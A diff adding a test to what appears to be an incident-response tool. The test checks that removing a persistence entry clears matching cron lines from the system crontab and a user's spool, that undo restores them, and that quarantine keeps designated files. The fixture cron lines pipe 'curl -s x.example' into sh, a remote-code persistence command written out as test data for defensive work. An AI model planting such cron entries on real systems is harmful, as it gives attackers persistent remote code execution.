@@ -182,3 +182,30 @@ def test_stop_and_disable_service_kills_its_program_and_undo_enables_it_again(wo
         for p in (bystander, running):
             p.kill()
             p.wait()
+
+
+def test_a_match_alone_removes_the_entry_wherever_it_is_and_quarantine_leaves_kept_files(worker: ActionWorker,
+                                                                                        root: Path,
+                                                                                        tmp_path: Path) -> None:
+    crontab = root / "etc" / "crontab"
+    crontab.write_text("17 * * * * root cd / && run-parts /etc/cron.hourly\n* * * * * root curl -s x.example|sh\n")
+    spool = root / "var" / "spool" / "cron" / "crontabs" / "ann"
+    spool.parent.mkdir(parents=True)
+    spool.write_text("@reboot curl -s x.example|sh\n")
+    removed, r = _ok(worker, "RemovePersistenceEntry", Match="curl -s x.example|sh")
+    assert crontab.read_text() == "17 * * * * root cd / && run-parts /etc/cron.hourly\n" and spool.read_text() == ""
+    assert sorted(f["path"] for f in r.output["files"]) == [str(crontab), str(spool)]
+    _ok(worker, "RestorePersistenceEntry", UndoOf=removed)
+    assert "* * * * * root curl -s x.example|sh" in crontab.read_text().splitlines()
+    assert spool.read_text() == "@reboot curl -s x.example|sh\n"
+
+    # A quarantine told to keep a persistence file (the investigation removes it by its own action) leaves it.
+    payload = tmp_path / "drop" / "p.sh"
+    payload.parent.mkdir()
+    payload.write_text("#!/bin/sh\n")
+    dropin = root / "etc" / "cron.d" / "p"
+    dropin.parent.mkdir()
+    dropin.write_text(f"* * * * * root {payload}\n")
+    crontab.write_text(f"* * * * * root {payload}\n")
+    _ok(worker, "StopAndQuarantineFile", Path=str(payload), KeepPersistence=[str(dropin)])
+    assert dropin.read_text() == f"* * * * * root {payload}\n" and crontab.read_text() == ""
